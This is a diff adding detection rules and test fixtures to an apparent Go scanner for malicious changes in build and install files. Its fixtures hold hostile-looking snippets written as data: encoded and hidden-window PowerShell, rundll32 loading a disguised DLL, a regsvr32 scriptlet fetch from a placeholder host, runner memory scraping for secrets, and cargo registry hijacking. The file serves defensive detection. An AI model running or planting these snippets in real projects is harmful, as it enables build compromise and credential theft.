@@ -50,6 +50,9 @@ var rules = []Rule{
 			{"x.sh", "echo $P | base64 -d > /tmp/.x\nchmod +x /tmp/.x\n/tmp/.x", 3, false},
 			{"x.js", "const s = Buffer.from(h, 'hex').toString()\nconst m = new module.constructor()\nm._compile(s, 'x.js')", 3, false},
 			{"x.sh", "echo aGkK | base64 -d > out.txt", 0, true},
+			{".github/workflows/w.yml", "jobs:\n  b:\n    steps:\n      - shell: pwsh\n        run: |\n          $s = 'SQBFAFgA'\n          Start-Process powershell -ArgumentList '-NoProfile', '-EncodedCommand', $s", 7, false},
+			{"x.bat", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi", 0, false},
+			{"x.ps1", "pwsh -ExecutionPolicy Bypass -File build.ps1", 0, true},
 		}},
 	{"download-and-run", KindDownload, High, "downloads code and runs it", whyDownload, []Case{
 		{"x.sh", "curl -fsSL https://x.invalid/i | sh", 0, false},
@@ -67,6 +70,19 @@ var rules = []Rule{
 			{"configure.ac", "  eval x=\\\"\\$y\\\" | /bin/sh 2>/dev/null", 0, false},
 			{"x.sh", "cfg='sed r $f | eval $map | $dec -d'", 0, false},
 			{"x.sh", "eval \"$(ssh-agent -s)\"", 0, true},
+		}},
+	{"dll-entry-run", KindExecute, High, "runs a library's code through a Windows loader (rundll32, regsvr32)",
+		"the loader calls an entry point of a DLL nobody can read in the diff, often one named like data (a .db, a .dat), on the machine that builds or installs", []Case{
+			{"install.js", "const dll = path.join(__dirname, 'node-gyp.dll')\nspawn('rundll32', [dll + ',main'], { detached: true })", 2, false},
+			{"x.vcxproj", "<PreBuildEvent>\n  <Command>rundll32 $(ProjectDir)Release\\Browse.VC.db,ENGINE_get_RAND</Command>\n</PreBuildEvent>", 2, false},
+			{"x.bat", "regsvr32 /s /i:http://x.invalid/s.sct scrobj.dll", 0, false},
+			// Opening a URL in the default browser, as CLIs do.
+			{"open.go", "exec.Command(\"rundll32\", \"url.dll,FileProtocolHandler\", u).Start()", 0, true},
+		}},
+	{"powershell-hidden", KindExecute, High, "starts PowerShell with a hidden window to run a command",
+		"a build or install step has no window to hide; hiding one keeps what runs out of sight of whoever is at the machine", []Case{
+			{"x.vcxproj", "<Command>powershell.exe -nop -w hidden -c \"iex (gc x.txt)\"</Command>", 0, false},
+			{"x.ps1", "pwsh -NoProfile -Command Get-Date", 0, true},
 		}},
 	{"vendor-installer", KindDownload, Medium, "runs a vendor's installer fetched from the vendor's own host",
 		"the documented install step of a well-known tool; it runs code the diff does not show, from a host the project already trusts", []Case{
@@ -158,6 +174,9 @@ var rules = []Rule{
 			{"x.sh", "sudo gcore -o /tmp/w $(pgrep -f Runner.Worker)", 0, false},
 			{"x.py", "pid = subprocess.check_output(['pgrep', '-f', 'Runner.Worker']).strip()\nmaps = open(f'/proc/{pid}/maps')", 1, false},
 			{"x.sh", "echo 'Runner.Worker started'", 0, true},
+			{"x.sh", "grep -aoE '\"[^\"]+\":\\{\"value\":\"[^\"]*\",\"isSecret\":true\\}' /tmp/w.bin | sort -u", 0, false},
+			{"Secrets.cs", "if (variable.IsSecret) { masker.Add(variable.Value); }", 0, true},
+			{"x.sh", "W=$(pgrep -f Runner.Worker | head -n1)\necho ok\nsudo python3 tools/warm.py \"$W\" > /tmp/w.bin", 3, false},
 		}},
 	{"runner-action-cache", KindRunner, High, "writes into the runner's action or tool cache",
 		"a later step, or a later job on the same runner, runs the changed code in place of the action it names", []Case{
@@ -241,6 +260,11 @@ var rules = []Rule{
 			{"Dockerfile", "FROM golang:1.23\nRUN git config --global url.https://git.x.invalid/.insteadOf https://github.com/", 2, false},
 			{"x.sh", `git config --global url."https://${TOKEN}@github.com/".insteadOf "https://github.com/"`, 0, true},
 			{"x.sh", `git config --global url."git@github.com:".insteadOf "https://github.com/"`, 0, true},
+			{".cargo/config.toml", "[source.crates-io]\nreplace-with = \"m\"\n\n[source.m]\nregistry = \"sparse+https://index.crates-mirror.invalid/\"", 5, false},
+			{".cargo/config.toml", "[registries.corp]\nindex = \"https://git.corp.invalid/index\"", 2, false},
+			// cargo vendor: the crates are in the tree.
+			{".cargo/config.toml", "[source.crates-io]\nreplace-with = \"vendored-sources\"\n\n[source.vendored-sources]\ndirectory = \"vendor\"", 5, true},
+			{".cargo/config.toml", "[source.crates-io]\nregistry = \"sparse+https://index.crates.io/\"", 2, true},
 		}},
 	{"source-switched", KindDependency, High, "switches where a dependency, image, submodule or hook comes from",
 		"the same name now fetches code from another owner or host", []Case{
@@ -410,6 +434,11 @@ var rules = []Rule{
 		[]Case{{"x.py", "exec(code)", 0, false}}},
 	{"network", KindNetwork, Medium, "opens a network connection", "check where it connects and what it sends",
 		[]Case{{"x.py", "s = socket.socket()", 0, false}}},
+	{"build-event", KindBuildFile, Medium, "MSBuild runs a command at build (pre/post-build event, Exec task)",
+		"Visual Studio and msbuild run it on every build of the project, with the builder's rights", []Case{
+			{"x.csproj", "<Target Name=\"B\" BeforeTargets=\"Build\">\n  <Exec Command=\"dotnet tool restore\" />\n</Target>", 2, false},
+			{"x.vcxproj", "<PostBuildEvent>", 0, false},
+		}},
 	{"gitattributes-filter", KindBuildFile, Medium, "names a git filter or driver",
 		"git runs the filter or driver a git config defines for it on checkout and diff", nil},
 	{"gitmodules-url", KindDependency, Medium, "submodule URL", "a recursive checkout fetches and checks out code from it", nil},
